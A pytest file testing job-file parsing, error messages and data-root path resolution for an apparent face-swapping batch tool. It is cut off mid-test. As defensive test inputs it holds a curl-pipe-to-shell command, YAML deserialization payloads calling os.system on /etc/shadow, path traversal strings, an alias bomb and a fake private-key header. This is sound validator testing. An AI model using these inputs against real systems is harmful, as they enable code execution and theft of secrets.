"""Job file v1: what parses, what each refusal says (file, field, reason), and resolution on a root."""

from __future__ import annotations

import dataclasses
import os
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
import yaml

from contract.manifest import FaceSelection, NoFacePolicy
from controller.errors import JobFileError, MissingInputError
from controller.job.files import load_job_file, load_jobs, parse_job, parse_job_text
from controller.job.resolve import resolve_job
from controller.job.spec import (
    DetectorSettings,
    EnhancerSettings,
    JobSpec,
    MaskSettings,
    OnComplete,
    Resources,
    TargetKind,
    VideoSettings,
    expand_output,
)
from controller.settings.fields import FieldError

# The job-file example of the first design (v1), verbatim; docs/job-file.md documents every key.
DESIGN_EXAMPLE = """\
name: holiday                    # [a-z0-9-]{1,40}; job id = name (+ -2, -3 … with --new)
source: faces/star.jpg           # or a list: photos of one person (embeddings averaged)
targets: [crowd/*.jpg, clips/*.mp4]   # globs under the data root; sorted; images and videos
output: out/holiday/{stem}{ext}  # {stem} {ext} {name} {index} {job} {dir}; must stay in the root
processors: [face_swapper]       # face_swapper, face_enhancer
faces: many                      # many | one | reference
no_face: copy                    # copy (output = input, status no_face) | skip | fail
reference: faces/ref.jpg         # with faces: reference; max distance via reference_distance
chunk_size: 20                   # images per chunk
segment_seconds: 30              # video targets are cut into segments of this length
video: {codec: libx264, crf: 18, preset: medium}   # segment encoding
skip_audio: false                # true: outputs carry no audio
max_concurrent: 4                # chunk services at once; `ffswarm scale` changes it live
resources: {gpus: 1, gpu_kind: GPU, memory: 6g}
placement: [node.labels.ffswarm.gpu==true]
retries: 3                       # attempts after the first, per chunk, for retryable failures
timeout: 30m                     # hard limit per chunk attempt
image: ffswarm/runner:1.0        # resolved to a digest/ID at submit and recorded
models: default                  # pack under <root>/models/
providers: [cuda, cpu]           # cpu only if listed; the runner logs which one ran
on_complete: {webhook: https://hooks.example.internal/ffswarm, hook: notify-crm}
"""

MINIMAL: dict[str, Any] = {
    "name": "h",
    "source": "faces/star.jpg",
    "targets": ["crowd/*.jpg"],
    "output": "out/h/{name}",
}
FILE = "jobs/h.yaml"


def job(**changes: Any) -> dict[str, Any]:
    data = dict(MINIMAL)
    for key, value in changes.items():
        if value is ...:
            data.pop(key, None)
        else:
            data[key] = value
    return data


def refusal(data: object) -> JobFileError:
    with pytest.raises(JobFileError) as e:
        parse_job(data, FILE)
    return e.value


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


# --- what parses -------------------------------------------------------------------------------


def test_design_example_parses(tmp_path: Path) -> None:
    spec = load_job_file(write(tmp_path / "holiday.yaml", DESIGN_EXAMPLE))
    assert spec == JobSpec(
        name="holiday",
        source=("faces/star.jpg",),
        targets=("crowd/*.jpg", "clips/*.mp4"),
        output="out/holiday/{stem}{ext}",
        processors=("face_swapper",),
        faces=FaceSelection.MANY,
        no_face=NoFacePolicy.COPY,
        reference="faces/ref.jpg",
        reference_distance=0.6,
        chunk_size=20,
        segment_seconds=30.0,
        video=VideoSettings(codec="libx264", crf=18, preset="medium"),
        skip_audio=False,
        max_concurrent=4,
        resources=Resources(gpus=1, gpu_kind="GPU", memory=6 * 1024**3),
        placement=("node.labels.ffswarm.gpu==true",),
        retries=3,
        timeout=1800,
        image="ffswarm/runner:1.0",
        models="default",
        providers=("cuda", "cpu"),
        on_complete=OnComplete(webhook="https://hooks.example.internal/ffswarm", hook="notify-crm"),
    )
    assert isinstance(spec.segment_seconds, float)


def test_defaults() -> None:
    spec = parse_job(MINIMAL, FILE)
    assert spec.source == ("faces/star.jpg",)
    assert spec.targets == ("crowd/*.jpg",)
    assert spec.processors == ("face_swapper",)
    assert spec.faces is FaceSelection.MANY
    assert spec.no_face is NoFacePolicy.COPY
    assert spec.reference is None
    assert spec.reference_distance == 0.6
    assert spec.chunk_size == "auto"  # sized at submit from the GPU slots (bench: scripts/bench_orchestration.py)
    assert spec.segment_seconds == 30.0
    assert spec.video == VideoSettings("libx264", 18, "medium")
    assert spec.skip_audio is False
    assert spec.max_concurrent == 4
    assert spec.resources == Resources(gpus=1, gpu_kind="GPU", memory=6 * 1024**3)
    assert spec.placement == ("node.labels.ffswarm.gpu==true",)
    assert spec.retries == 3
    assert spec.timeout == 1800
    assert spec.image is None
    assert spec.models == "default"
    assert spec.providers == ("cuda", "cpu")
    assert spec.on_complete == OnComplete(None, None)


def test_nested_mappings_take_defaults_for_missing_keys() -> None:
    spec = parse_job(job(video={"crf": 23}, resources={"gpus": 0}), FILE)
    assert spec.video == VideoSettings(crf=23)
    assert spec.resources == Resources(gpus=0)


@pytest.mark.parametrize(
    ("changes", "attr", "expected"),
    [
        ({"source": ["faces/a.jpg", "faces/b.png"]}, "source", ("faces/a.jpg", "faces/b.png")),
        ({"targets": "crowd/**/*.jpg"}, "targets", ("crowd/**/*.jpg",)),
        ({"timeout": "90s"}, "timeout", 90),
        ({"timeout": "2h"}, "timeout", 7200),
        ({"timeout": "1h30m"}, "timeout", 5400),
        ({"timeout": 45}, "timeout", 45),
        ({"faces": "reference", "reference": "faces/ref.jpg"}, "faces", FaceSelection.REFERENCE),
        ({"no_face": "fail"}, "no_face", NoFacePolicy.FAIL),
        ({"reference_distance": 2}, "reference_distance", 2.0),
        ({"segment_seconds": 2.5}, "segment_seconds", 2.5),
        ({"placement": []}, "placement", ()),
        (
            {"placement": ["node.role != manager", "node.labels.zone==a"]},
            "placement",
            ("node.role != manager", "node.labels.zone==a"),
        ),
        ({"processors": ["face_swapper", "face_enhancer"]}, "processors", ("face_swapper", "face_enhancer")),
        ({"providers": ["cpu"]}, "providers", ("cpu",)),
        ({"output": "out/{job}/{dir}/{index:05d}{ext}"}, "output", "out/{job}/{dir}/{index:05d}{ext}"),
        ({"models": "buffalo_l.v2"}, "models", "buffalo_l.v2"),
        ({"image": None}, "image", None),
        ({"name": "a" * 40}, "name", "a" * 40),
        ({"detector": {"threshold": 0.3, "size": 320}}, "detector", DetectorSettings(0.3, 320)),
        ({"detector": {"threshold": 1}}, "detector", DetectorSettings(1.0, 640)),
        ({"mask": {"feather": 0, "padding": 0.25}}, "mask", MaskSettings(0.0, 0.25)),
        ({"mask": {}}, "mask", MaskSettings(0.05, 0.1)),
        ({"face_enhancer": {"blend": 1}}, "face_enhancer", EnhancerSettings(1.0)),
    ],
)
def test_accepted_values(changes: dict[str, Any], attr: str, expected: object) -> None:
    assert getattr(parse_job(job(**changes), FILE), attr) == expected


@pytest.mark.parametrize(
    ("memory", "size"),
    [("6g", 6 * 1024**3), ("512m", 512 * 1024**2), ("1024k", 1024**2), ("2G", 2 * 1024**3), (1000, 1000), ("77", 77)],
)
def test_memory_sizes(memory: object, size: int) -> None:
    assert parse_job(job(resources={"memory": memory}), FILE).resources.memory == size


# --- what is refused, and how it is said ---------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "field", "reason"),
    [
        ({"name": ...}, "name", "required key is missing"),
        ({"source": ...}, "source", "required key is missing"),
        ({"targets": ...}, "targets", "required key is missing"),
        ({"output": ...}, "output", "required key is missing"),
        ({"name": "Holiday"}, "name", "must be 1 to 40 characters of a-z, 0-9 and -, got 'Holiday'"),
        ({"name": "a" * 41}, "name", "must be 1 to 40 characters"),
        ({"name": "a_b"}, "name", "got 'a_b'"),
        ({"name": ""}, "name", "must be a non-empty string, got ''"),
        ({"name": 7}, "name", "must be a non-empty string, got 7"),
        ({"chunk_size": -5}, "chunk_size", "must be an integer ≥ 1 or auto, got -5"),
        ({"chunk_size": 0}, "chunk_size", "must be an integer ≥ 1 or auto, got 0"),
        ({"chunk_size": True}, "chunk_size", "must be an integer ≥ 1 or auto, got true"),
        ({"chunk_size": "20"}, "chunk_size", "must be an integer ≥ 1 or auto, got '20'"),
        ({"chunk_size": 2.5}, "chunk_size", "must be an integer ≥ 1 or auto, got 2.5"),
        ({"max_concurrent": 0}, "max_concurrent", "must be an integer ≥ 1, got 0"),
        ({"retries": -1}, "retries", "must be an integer ≥ 0, got -1"),
        ({"retries": False}, "retries", "got false"),
        ({"timeout": "30 minutes"}, "timeout", "must be a duration like 30m, 90s, 2h or 1h30m, or whole seconds"),
        ({"timeout": "30m1h"}, "timeout", "must be a duration"),
        ({"timeout": 0}, "timeout", "longer than zero"),
        ({"timeout": "0s"}, "timeout", "longer than zero"),
        ({"timeout": True}, "timeout", "must be a duration"),
        ({"timeout": -5}, "timeout", "longer than zero"),
        ({"reference_distance": 0}, "reference_distance", "must be a number in (0, 2], got 0"),
        ({"reference_distance": 2.5}, "reference_distance", "must be a number in (0, 2], got 2.5"),
        ({"reference_distance": "near"}, "reference_distance", "got 'near'"),
        ({"segment_seconds": 0}, "segment_seconds", "must be a number > 0, got 0"),
        ({"segment_seconds": float("inf")}, "segment_seconds", "must be a number > 0"),
        ({"segment_seconds": True}, "segment_seconds", "got true"),
        ({"skip_audio": "no"}, "skip_audio", "must be true or false, got 'no'"),
        ({"skip_audio": 0}, "skip_audio", "must be true or false, got 0"),
        ({"faces": "all"}, "faces", "unknown face selection 'all' (choose from many, one, reference)"),
        ({"no_face": "ignore"}, "no_face", "unknown no-face policy 'ignore' (choose from copy, skip, fail)"),
        ({"faces": "reference"}, "reference", "is required with faces: reference"),
        ({"faces": "reference", "reference": "faces/ref.gif"}, "reference", "is not an image"),
        ({"faces": "reference", "reference": "/faces/ref.jpg"}, "reference", "absolute paths are not allowed"),
        ({"processors": "face_swapper"}, "processors", "must be a list of processors, got 'face_swapper'"),
        ({"processors": []}, "processors", "must list at least 1 processor"),
        (
            {"processors": ["face_morpher"]},
            "processors[0]",
            "unknown processor 'face_morpher' (choose from face_swapper, face_enhancer, frame_enhancer)",
        ),
        ({"processors": ["face_swapper", "face_swapper"]}, "processors[1]", "'face_swapper' is listed twice"),
        ({"providers": []}, "providers", "must list at least 1 provider"),
        ({"providers": ["cuda", "tensorrt"]}, "providers[1]", "unknown provider 'tensorrt'"),
        ({"providers": ["cpu", "cpu"]}, "providers[1]", "listed twice"),
        ({"providers": "cuda"}, "providers", "must be a list of providers"),
        ({"placement": "node.labels.ffswarm.gpu==true"}, "placement", "must be a list of constraints"),
        ({"placement": ["node.labels.gpu"]}, "placement[0]", "must be a constraint like node.labels.ffswarm.gpu==true"),
        ({"placement": ["a==b", "x = y"]}, "placement[1]", "got 'x = y'"),
        ({"placement": ["a==b c"]}, "placement[0]", "must be a constraint"),
        ({"image": ""}, "image", "must be a non-empty string"),
        ({"image": "my image"}, "image", "without spaces"),
        ({"models": "../x"}, "models", "must be a pack name"),
        ({"models": ".."}, "models", "must be a pack name"),
        ({"models": ".hidden"}, "models", "must be a pack name"),
        ({"models": "a/b"}, "models", "must be a pack name"),
        ({"source": []}, "source", "must list at least 1 photo"),
        ({"source": 3}, "source", "must be a path or a list of paths, got 3"),
        ({"source": {"a": 1}}, "source", "got a mapping"),
        ({"source": "/etc/passwd.jpg"}, "source", "absolute paths are not allowed: '/etc/passwd.jpg'"),
        ({"source": "../x.jpg"}, "source", "'../x.jpg' leads out of the data root"),
        ({"source": ["faces/a.jpg", "faces/notes.txt"]}, "source[1]", "'faces/notes.txt' is not an image"),
        ({"source": ["faces/a.jpg", 5]}, "source[1]", "must be a non-empty string, got 5"),
        ({"targets": []}, "targets", "must list at least 1 glob"),
        ({"targets": ["crowd/*.jpg", "/srv/*.jpg"]}, "targets[1]", "absolute paths are not allowed: '/srv/*.jpg'"),
        ({"targets": "../*.jpg"}, "targets", "leads out of the data root"),
        ({"output": "out/{stem}{suffix}"}, "output", "unknown placeholder {suffix}"),
        ({"output": "out/{}.jpg"}, "output", "unknown placeholder {}"),
        ({"output": "out/{0}.jpg"}, "output", "unknown placeholder {0}"),
        ({"output": "out/{stem.upper}.jpg"}, "output", "unknown placeholder {stem.upper}"),
        ({"output": "out/{stem!r}.jpg"}, "output", "conversions like !r are not supported"),
        ({"output": "out/{stem"}, "output", "is not a valid template"),
        ({"output": "out/{stem:05d}.jpg"}, "output", "cannot be expanded"),
        ({"output": "/out/{name}"}, "output", "absolute paths are not allowed: '/out/{name}'"),
        ({"output": "../out/{name}"}, "output", "leads out of the data root"),
        ({"output": "out/{stem}/"}, "output", "names a folder, not a file"),
        ({"output": 5}, "output", "must be a non-empty string, got 5"),
        ({"video": {"crf": 52}}, "video.crf", "must be an integer from 0 to 51, got 52"),
        ({"video": {"crf": -1}}, "video.crf", "from 0 to 51, got -1"),
        ({"video": {"codec": ""}}, "video.codec", "unknown video encoder ''"),
        ({"video": {"codec": "libaom-av1"}}, "video.codec", "(choose from libx264, libx265, libvpx-vp9, h264_nvenc"),
        ({"video": {"preset": "very slow"}}, "video.preset", "unknown preset 'very slow' (choose from ultrafast,"),
        ({"video": {"codec": "libx264", "crf": 60}}, "video.crf", "from 0 to 51"),
        ({"video": {"codec": "h264_nvenc"}, "providers": ["cpu"]}, "video.codec", "h264_nvenc encodes on the GPU"),
        ({"video": "libx264"}, "video", "must be a mapping, got 'libx264'"),
        ({"video": None}, "video", "must be a mapping, got null"),
        ({"resources": {"gpus": -1}}, "resources.gpus", "must be an integer ≥ 0, got -1"),
        ({"resources": {"gpus": True}}, "resources.gpus", "got true"),
        ({"resources": {"gpu_kind": "NVIDIA-GPU"}}, "resources.gpu_kind", "letters, digits and _ only (no -)"),
        ({"resources": {"memory": "6 gigs"}}, "resources.memory", "must be a size like 6g, 512m or 1024k"),
        ({"resources": {"memory": 0}}, "resources.memory", "above zero"),
        ({"resources": {"memory": True}}, "resources.memory", "must be a size"),
        ({"on_complete": {"webhook": "ftp://x"}}, "on_complete.webhook", "an http:// or https:// URL"),
        ({"on_complete": {"hook": ""}}, "on_complete.hook", "must be a non-empty string"),
        ({"on_complete": {"hook": "sh -c x"}}, "on_complete.hook", "must be the name of a hook in the"),
        ({"on_complete": {"hook": ["notify", "x"]}}, "on_complete.hook", "got a list"),
        ({"detector": {"threshold": 0}}, "detector.threshold", "must be a number in (0, 1], got 0"),
        ({"detector": {"size": 650}}, "detector.size", "must be a multiple of 32, got 650"),
        ({"detector": {"size": 64}}, "detector.size", "must be an integer from 160 to 2048, got 64"),
        ({"detector": {"treshold": 0.5}}, "detector.treshold", "unknown key (did you mean 'threshold'?)"),
        ({"detector": 0.5}, "detector", "must be a mapping, got 0.5"),
        ({"mask": {"feather": 0.6}}, "mask.feather", "must be a number in [0, 0.5], got 0.6"),
        ({"mask": {"padding": -0.1}}, "mask.padding", "must be a number in [0, 0.5], got -0.1"),
        ({"mask": {"padding": True}}, "mask.padding", "got true"),
        ({"face_enhancer": {"blend": 0}}, "face_enhancer.blend", "must be a number in (0, 1], got 0"),
        ({"face_enhancer": {"blend": "80%"}}, "face_enhancer.blend", "got '80%'"),
    ],
)
def test_refusals_name_file_field_and_reason(changes: dict[str, Any], field: str, reason: str) -> None:
    err = refusal(job(**changes))
    assert (err.file, err.field) == (FILE, field)
    assert reason in err.reason
    assert str(err).startswith(f"{FILE}: {field}: ")
    assert err.exit_code == 65


def test_chunk_size_message_in_full() -> None:
    assert str(refusal(job(chunk_size=-5))) == "jobs/h.yaml: chunk_size: must be an integer ≥ 1 or auto, got -5"


def test_reference_with_another_face_selection_is_allowed_and_unused() -> None:
    spec = parse_job(job(faces="one", reference="faces/ref.jpg"), FILE)
    assert spec.reference == "faces/ref.jpg"


# --- unknown keys ------------------------------------------------------------------------------


def test_unknown_key_did_you_mean() -> None:
    assert str(refusal(job(chunck_size=5))) == "jobs/h.yaml: chunck_size: unknown key (did you mean 'chunk_size'?)"


def test_unknown_nested_key_did_you_mean() -> None:
    err = refusal(job(resources={"gpu": 1}))
    assert (err.field, err.reason) == ("resources.gpu", "unknown key (did you mean 'gpus'?)")


def test_unknown_nested_key_in_on_complete() -> None:
    err = refusal(job(on_complete={"webhok": "https://x"}))
    assert (err.field, err.reason) == ("on_complete.webhok", "unknown key (did you mean 'webhook'?)")


def test_on_complete_command_is_gone_with_a_did_you_mean_to_hook() -> None:
    err = refusal(job(on_complete={"command": "sh -c 'curl evil | sh'"}))
    assert (err.file, err.field, err.exit_code) == (FILE, "on_complete.command", 65)
    assert err.reason == (
        "is no longer supported: a job names a hook the cluster's policy defines (did you mean 'hook'?)"
    )


def test_unknown_key_without_a_near_match() -> None:
    err = refusal(job(zzzz=1))
    assert (err.field, err.reason) == ("zzzz", "unknown key")


def test_unknown_key_reported_before_a_missing_one() -> None:
    """A misspelt required key explains itself instead of reading as a missing key."""
    err = refusal(job(source=..., sorce="faces/a.jpg"))
    assert (err.field, err.reason) == ("sorce", "unknown key (did you mean 'source'?)")


def test_non_string_key() -> None:
    data: dict[Any, Any] = {**MINIMAL, 5: "x"}
    err = refusal(data)
    assert (err.field, err.reason) == ("5", "unknown key")


# --- the file as a whole -----------------------------------------------------------------------


def test_malformed_yaml_names_line_and_column(tmp_path: Path) -> None:
    path = write(tmp_path / "bad.yaml", "name: h\nsource: [a.jpg\ntargets: x\n")
    with pytest.raises(JobFileError) as e:
        load_job_file(path)
    assert e.value.file == str(path)
    assert e.value.field is None
    assert e.value.reason.startswith("invalid YAML at line 3, column ")


def test_tab_indentation_is_malformed_yaml() -> None:
    with pytest.raises(JobFileError, match="invalid YAML at line 2, column 1"):
        parse_job_text("name: h\n\tsource: a.jpg\n", FILE)


@pytest.mark.parametrize(
    "tag",
    ["!!python/object/apply:os.system ['true']", "!!python/object:builtins.dict {}", "!!python/name:os.system ''"],
)
def test_python_tags_are_refused(tag: str) -> None:
    with pytest.raises(JobFileError) as e:
        parse_job_text(f"name: {tag}\n", FILE)
    assert "could not determine a constructor" in e.value.reason
    assert "YAML tags are not allowed" in e.value.reason


@pytest.mark.parametrize(
    ("text", "got"),
    [("", "an empty file"), ("- a\n- b\n", "a list"), ("holiday\n", "a string"), ("42\n", "42")],
)
def test_top_level_must_be_a_mapping(text: str, got: str) -> None:
    with pytest.raises(JobFileError) as e:
        parse_job_text(text, FILE)
    assert e.value.field is None
    assert e.value.reason == f"the top level must be a mapping of job fields, got {got}"


@pytest.mark.parametrize(
    "text",
    [
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n",
        "name: a\nsource: !!python/object/apply:os.system ['cat /etc/shadow']\n",
        "name: a\n  targets: 'hunter2-token'\n bad\n",
    ],
)
def test_a_refused_job_file_names_line_and_column_never_its_text(text: str) -> None:
    """A key file (or anything) read as a job file: the reason says where, not what (issue 16)."""
    with pytest.raises(JobFileError) as e:
        parse_job_text(text, FILE)
    for secret in ("BEGIN", "b3BlbnNz", "os.system", "shadow", "hunter2"):
        assert secret not in str(e.value)


def test_a_key_written_twice_is_refused() -> None:
    text = yaml.safe_dump(MINIMAL) + "chunk_size: 5\nchunk_size: 6\n"
    with pytest.raises(JobFileError) as e:
        parse_job_text(text, FILE)
    assert e.value.field == "chunk_size"
    assert "written twice" in e.value.reason


def test_aliases_are_not_expanded_into_a_bomb() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 12)]
    with pytest.raises(JobFileError) as e:
        parse_job_text("\n".join(lines) + "\n", FILE)
    assert e.value.reason.startswith("unknown key")


def test_unquoted_template_starting_with_a_brace() -> None:
    with pytest.raises(JobFileError) as e:
        parse_job_text(yaml.safe_dump(job(output=...)) + "output: {name}\n", FILE)
    assert (e.value.field, e.value.reason) == (
        "output",
        "must be a string, got a mapping (quote a template that starts with '{')",
    )


def test_unreadable_and_non_utf8_files(tmp_path: Path) -> None:
    with pytest.raises(JobFileError, match="cannot be read"):
        load_job_file(tmp_path / "nope.yaml")
    bad = tmp_path / "latin1.yaml"
    bad.write_bytes(b"name: caf\xe9\n")
    with pytest.raises(JobFileError, match="is not UTF-8 text"):
        load_job_file(bad)


# --- building in code --------------------------------------------------------------------------


def test_spec_built_in_code_checks_itself() -> None:
    spec = JobSpec(name="x", source=("a.jpg",), targets=("*.jpg",), output="o/{name}")
    with pytest.raises(dataclasses.FrozenInstanceError):
        spec.chunk_size = 3  # type: ignore[misc]
    with pytest.raises(FieldError) as e:
        dataclasses.replace(spec, chunk_size=0)
    assert e.value.field == "chunk_size"
    with pytest.raises(FieldError, match="must be a tuple"):
        JobSpec(name="x", source=["a.jpg"], targets=("*.jpg",), output="o/{name}")  # type: ignore[arg-type]
    with pytest.raises(FieldError, match="must be a FaceSelection"):
        JobSpec(name="x", source=("a.jpg",), targets=("*.jpg",), output="o/{name}", faces="many")  # type: ignore[arg-type]
    with pytest.raises(FieldError, match="gpu_kind"):
        Resources(gpu_kind="a-b")


# --- loading several files ---------------------------------------------------------------------


def test_load_jobs_from_a_folder(tmp_path: Path) -> None:
    jobs = tmp_path / "jobs"
    write(jobs / "b.yml", yaml.safe_dump(job(name="b")))
    write(jobs / "a.yaml", yaml.safe_dump(job(name="a")))
    write(jobs / "notes.txt", "not a job")
    write(jobs / ".c.yaml.tmp.yaml", "half written: [")
    write(jobs / "nested" / "d.yaml", yaml.safe_dump(job(name="d")))
    loaded = load_jobs([jobs])
    assert [(p.name, s.name) for p, s in loaded] == [("a.yaml", "a"), ("b.yml", "b")]


def test_load_jobs_mixes_files_and_folders_and_ignores_repeats(tmp_path: Path) -> None:
    write(tmp_path / "jobs" / "a.yaml", yaml.safe_dump(job(name="a")))
    extra = write(tmp_path / "extra.yaml", yaml.safe_dump(job(name="e")))
    loaded = load_jobs([tmp_path / "jobs", extra, tmp_path / "jobs" / "a.yaml"])
    assert [s.name for _, s in loaded] == ["a", "e"]


def test_load_jobs_finds_nothing(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(JobFileError, match="no job files"):
        load_jobs([tmp_path / "empty"])


def test_load_jobs_missing_path(tmp_path: Path) -> None:
    with pytest.raises(JobFileError, match="no such file or folder"):
        load_jobs([tmp_path / "missing"])


def test_load_jobs_refuses_duplicate_names(tmp_path: Path) -> None:
    first = write(tmp_path / "jobs" / "a.yaml", yaml.safe_dump(job(name="same")))
    second = write(tmp_path / "jobs" / "b.yaml", yaml.safe_dump(job(name="same")))
    with pytest.raises(JobFileError) as e:
        load_jobs([tmp_path / "jobs"])
    assert (e.value.file, e.value.field) == (str(second), "name")
    assert e.value.reason == f"'same' is also the name of the job in {first}"


def test_load_jobs_reports_the_bad_file(tmp_path: Path) -> None:
    write(tmp_path / "jobs" / "a.yaml", yaml.safe_dump(job(name="a")))
    bad = write(tmp_path / "jobs" / "b.yaml", yaml.safe_dump(job(name="b", chunk_size=-5)))
    with pytest.raises(JobFileError) as e:
        load_jobs([tmp_path / "jobs"])
    assert str(e.value) == f"{bad}: chunk_size: must be an integer ≥ 1 or auto, got -5"


# --- resolution on a data root -----------------------------------------------------------------


@pytest.fixture
def root(tmp_path: Path) -> Path:
    r = tmp_path / "data"
    for name in (
        "faces/star.jpg",
        "faces/ref.jpg",
        "crowd/b.jpg",
        "crowd/a.jpg",
        "crowd/x/c.JPG",
        "clips/v.mp4",
        "other/a.jpg",
        "top.png",
        "docs/readme.txt",
    ):
        (r / name).parent.mkdir(parents=True, exist_ok=True)
        (r / name).write_bytes(b"x")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.jpg").write_bytes(b"s")
    return r


def resolved_refusal(root: Path, **changes: Any) -> JobFileError:
    spec = parse_job(job(**changes), FILE)
    with pytest.raises(JobFileError) as e:
        resolve_job(spec, root, FILE)
    return e.value


def test_resolve_design_example(root: Path, tmp_path: Path) -> None:
    spec = load_job_file(write(tmp_path / "holiday.yaml", DESIGN_EXAMPLE))
    r = resolve_job(spec, root, "holiday.yaml")
    real = root.resolve()
    assert r.sources == (real / "faces/star.jpg",)
    assert r.reference is None  # faces: many does not use it
    assert [(t.index, t.rel, t.output_rel, t.kind) for t in r.targets] == [
        (0, "crowd/a.jpg", "out/holiday/a.jpg", TargetKind.IMAGE),
        (1, "crowd/b.jpg", "out/holiday/b.jpg", TargetKind.IMAGE),
        (2, "clips/v.mp4", "out/holiday/v.mp4", "video"),
    ]
    assert r.targets[0].input == real / "crowd/a.jpg"
    assert r.targets[0].output == real / "out/holiday/a.jpg"
    assert all(t.input.is_absolute() and t.output.is_absolute() for t in r.targets)


def test_a_one_photo_job_is_checked_without_reading_its_folder_and_a_glob_reads_it(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A one-photo request costs the same beside ten photos or 100,000: its few named files are
    looked at alone; a glob reads each folder once. Either way the same files, checked the same."""
    from controller.job import paths

    listed: list[str] = []
    real_listing = paths._listing
    monkeypatch.setattr(paths, "_listing", lambda folder: listed.append(folder) or real_listing(folder))
    real = root.resolve()
    named = resolve_job(parse_job(job(targets=["crowd/a.jpg"], output="out/{stem}{ext}"), FILE), root, FILE)
    assert [t.input for t in named.targets] == [real / "crowd/a.jpg"] and listed == []
    globbed = resolve_job(parse_job(job(targets=["crowd/a.*"], output="out/{stem}{ext}"), FILE), root, FILE)
    assert [t.input for t in globbed.targets] == [real / "crowd/a.jpg"] and str(real / "crowd") in listed
    os.symlink(root.parent / "outside" / "secret.jpg", root / "crowd" / "evil.jpg")
    assert "through a symlink" in resolved_refusal(root, targets=["crowd/evil.jpg"], output="out/{stem}{ext}").reason


def test_resolve_reference(root: Path) -> None:
    spec = parse_job(job(faces="reference", reference="faces/ref.jpg"), FILE)
    assert resolve_job(spec, root, FILE).reference == root.resolve() / "faces/ref.jpg"


def test_resolve_order_is_glob_by_glob_and_duplicates_collapse(root: Path) -> None:
    spec = parse_job(job(targets=["other/*.jpg", "crowd/**/*", "crowd/a.jpg"], output="out/{index}{ext}"), FILE)
    r = resolve_job(spec, root, FILE)
    assert [t.rel for t in r.targets] == ["other/a.jpg", "crowd/a.jpg", "crowd/b.jpg", "crowd/x/c.JPG"]
    assert [t.output_rel for t in r.targets] == ["out/0.jpg", "out/1.jpg", "out/2.jpg", "out/3.JPG"]


def test_resolve_template_placeholders(root: Path) -> None:
    spec = parse_job(job(targets=["crowd/x/*", "top.png"], output="out/{job}/{dir}/{index:05d}-{stem}{ext}"), FILE)
    r = resolve_job(spec, root, FILE, job_id="h-2")
    assert [t.output_rel for t in r.targets] == ["out/h-2/crowd/x/00000-c.JPG", "out/h-2/00001-top.png"]


def test_empty_dir_leaves_no_double_or_leading_slash() -> None:
    assert expand_output("out/{dir}/{name}", PurePosixPath("a.jpg"), index=0, job="j") == "out/a.jpg"
    assert expand_output("{dir}/s_{name}", PurePosixPath("a.jpg"), index=0, job="j") == "s_a.jpg"
    assert expand_output("{dir}/s_{name}", PurePosixPath("d/e/a.jpg"), index=0, job="j") == "d/e/s_a.jpg"


def test_glob_matching_nothing(root: Path) -> None:
    err = resolved_refusal(root, targets=["crowd/*.jpg", "clips/*.mkv"])
    assert (err.field, err.reason) == ("targets[1]", f"'clips/*.mkv' matches no file under {root}")


def test_glob_matching_only_folders_matches_nothing(root: Path) -> None:
    assert resolved_refusal(root, targets="crowd/x").reason.endswith("matches no file under " + str(root))


def test_glob_matching_an_unsupported_file(root: Path) -> None:
    err = resolved_refusal(root, targets=["docs/*"])
    assert err.field == "targets"
    assert err.reason.startswith("'docs/readme.txt' is neither an image nor a video (supported: .jpg")


def test_target_symlink_leading_out(root: Path) -> None:
    os.symlink(root.parent / "outside" / "secret.jpg", root / "crowd" / "zz.jpg")
    err = resolved_refusal(root)
    assert (err.field, err.reason) == ("targets", "'crowd/zz.jpg' resolves outside the data root through a symlink")


def test_source_symlink_leading_out(root: Path) -> None:
    os.symlink(root.parent / "outside", root / "link")
    err = resolved_refusal(root, source=["faces/star.jpg", "link/secret.jpg"])
    assert err.field == "source[1]"
    assert err.reason == "'link/secret.jpg' resolves outside the data root through a symlink"


def test_missing_source_is_a_missing_input(root: Path) -> None:
    spec = parse_job(job(source="faces/nobody.jpg"), FILE)
    with pytest.raises(MissingInputError) as e:
        resolve_job(spec, root, FILE)
    assert e.value.exit_code == 66
    assert str(e.value) == f"{FILE}: source: 'faces/nobody.jpg' does not exist under {root}"


def test_missing_reference_is_a_missing_input(root: Path) -> None:
    spec = parse_job(job(faces="reference", reference="faces/nobody.jpg"), FILE)
    with pytest.raises(MissingInputError, match="reference: 'faces/nobody.jpg' does not exist"):
        resolve_job(spec, root, FILE)


def test_source_folder_is_refused(root: Path) -> None:
    (root / "faces" / "dir.jpg").mkdir()
    assert resolved_refusal(root, source="faces/dir.jpg").reason == "'faces/dir.jpg' is a folder, not a photo"


def test_output_escaping_through_dir(root: Path) -> None:
    err = resolved_refusal(root, targets="top.png", output="{dir}/../{name}")
    assert err.field == "output"
    assert "escapes the data root" in err.reason


def test_output_escaping_through_a_symlink(root: Path) -> None:
    os.symlink(root.parent / "outside", root / "out")
    err = resolved_refusal(root, output="out/{name}")
    assert err.field == "output"
    assert "resolves outside the data root through a symlink" in err.reason


def test_outputs_colliding(root: Path) -> None:
    err = resolved_refusal(root, targets=["crowd/*.jpg", "other/*.jpg"], output="out/h/{name}")
    assert str(err) == "jobs/h.yaml: output: 'crowd/a.jpg' and 'other/a.jpg' would both write out/h/a.jpg"


def test_output_overwriting_an_input(root: Path) -> None:
    err = resolved_refusal(root, output="{dir}/{name}")
    assert err.field == "output"
    assert err.reason == "'crowd/a.jpg' would be written to crowd/a.jpg, an input of this job"


def test_output_overwriting_the_source(root: Path) -> None:
    err = resolved_refusal(root, targets="top.png", output="faces/star.jpg")
    assert "an input of this job" in err.reason


def test_output_without_a_distinguishing_placeholder(root: Path) -> None:
    err = resolved_refusal(root, output="out/{job}/result{ext}")
    assert (err.field, err.reason) == (
        "output",
        "'out/{job}/result{ext}' needs {stem}, {name} or {index}: the targets match 2 files",
    )


def test_a_single_target_may_have_a_fixed_output(root: Path) -> None:
